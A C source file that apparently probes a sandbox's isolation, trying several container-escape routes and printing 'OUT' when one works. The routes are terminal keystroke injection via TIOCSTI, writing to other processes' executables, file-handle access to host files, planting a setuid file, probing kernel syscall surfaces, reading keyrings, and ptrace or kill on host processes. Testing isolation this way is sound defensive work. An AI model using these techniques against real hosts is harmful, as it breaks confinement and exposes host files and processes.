/* escape WAY: one way out; says what it got hold of. Two of them are for the host: handle-of FILE, with-key TEXT CMD. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/keyctl.h>
#include <linux/perf_event.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

static struct { struct file_handle head; unsigned char bytes[128]; } handle = {.head = {.handle_bytes = 128}};

static void show(int fd)
{
    char text[256];
    ssize_t size = read(fd, text, sizeof text);
    if (size > 0)
        fwrite(text, 1, size, stdout);
}

static void open_by_handle(const char *words) /* that of a file of the host, below any mount that we have of its disk */
{
    const char *places[] = {"/", "/shared", "/etc/hosts", "/etc/resolv.conf"};
    handle.head.handle_bytes = strlen(words) / 2 - 1;
    for (unsigned at = 0; at <= handle.head.handle_bytes; at++) {
        unsigned byte;
        sscanf(words + 2 * at, "%2x", &byte);
        if (at)
            handle.head.f_handle[at - 1] = byte;
        else
            handle.head.handle_type = byte;
    }
    for (int at = 0; at < 4; at++) {
        int place = open(places[at], O_RDONLY), fd = open_by_handle_at(place, &handle.head, O_RDONLY);
        if (fd >= 0)
            show(fd);
    }
}

static void print_handle(const char *path)
{
    int mount;
    if (name_to_handle_at(AT_FDCWD, path, &handle.head, &mount, 0))
        return;
    printf("%02x", handle.head.handle_type);
    for (unsigned at = 0; at < handle.head.handle_bytes; at++)
        printf("%02x", handle.head.f_handle[at]);
}

static void calls(void) /* through which kernels were taken */
{
    union bpf_attr map = {.map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4, .value_size = 4, .max_entries = 1};
    struct perf_event_attr event = {.type = PERF_TYPE_SOFTWARE, .size = sizeof event, .exclude_kernel = 1};
    if (syscall(SYS_userfaultfd, 1) >= 0)
        puts("OUT: userfaultfd");
    if (syscall(SYS_bpf, BPF_MAP_CREATE, &map, sizeof map) >= 0)
        puts("OUT: bpf");
    if (syscall(SYS_perf_event_open, &event, 0, -1, -1, 0) >= 0)
        puts("OUT: perf_event_open");
}

static void ask(const char *name) /* what listens on an abstract socket */
{
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    strncpy(address.sun_path + 1, name, sizeof address.sun_path - 2);
    if (!connect(fd, (struct sockaddr *)&address, offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name)))
        show(fd);
}

static void read_key(void)
{
    char text[256] = "";
    long key = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", "escape", 0);
    if (key > 0 && syscall(SYS_keyctl, KEYCTL_READ, key, text, sizeof text - 1) > 0)
        puts(text);
}

static void executables(void) /* write to the programs of all processes that we can see */
{
    for (int pid = 1; pid < 70000; pid++) {
        char path[32];
        snprintf(path, sizeof path, "/proc/%d/exe", pid);
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd < 0 || pid == getpid())
            continue;
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        if (open(path, O_WRONLY | O_APPEND) >= 0)
            puts("OUT");
    }
}

static void descriptors(void) /* a folder that our caller had open */
{
    for (int fd = 3; fd < 1024; fd++)
        if (openat(fd, "secret", O_RDONLY) >= 0)
            puts("OUT");
}

int main(int count, char **words)
{
    const char *way = count > 1 ? words[1] : "", *word = count > 2 ? words[2] : "";
    if (!strcmp(way, "type")) /* into the terminal that we were started from */
        for (const char *c = "touch /escaped\n"; *c; c++)
            ioctl(0, TIOCSTI, c);
    if (!strcmp(way, "executables"))
        executables();
    if (!strcmp(way, "descriptors"))
        descriptors();
    if (!strcmp(way, "setuid")) /* a file in the folder that is bound in */
        if (open("/shared/setuid", O_CREAT | O_WRONLY, 0755) >= 0)
            chmod("/shared/setuid", 04755);
    if (!strcmp(way, "handle"))
        open_by_handle(word);
    if (!strcmp(way, "handle-of"))
        print_handle(word);
    if (!strcmp(way, "calls"))
        calls();
    if (!strcmp(way, "ask"))
        ask(word);
    if (!strcmp(way, "key"))
        read_key();
    if (!strcmp(way, "with-key")) {
        syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, 0);
        syscall(SYS_add_key, "user", "escape", word, strlen(word), KEY_SPEC_SESSION_KEYRING);
        execvp(words[3], words + 3);
        return 127;
    }
    if (!strcmp(way, "process")) /* of the host */
        if (!ptrace(PTRACE_SEIZE, atoi(word), 0, 0) || !kill(atoi(word), SIGTERM))
            puts("OUT");
    return 0;
}
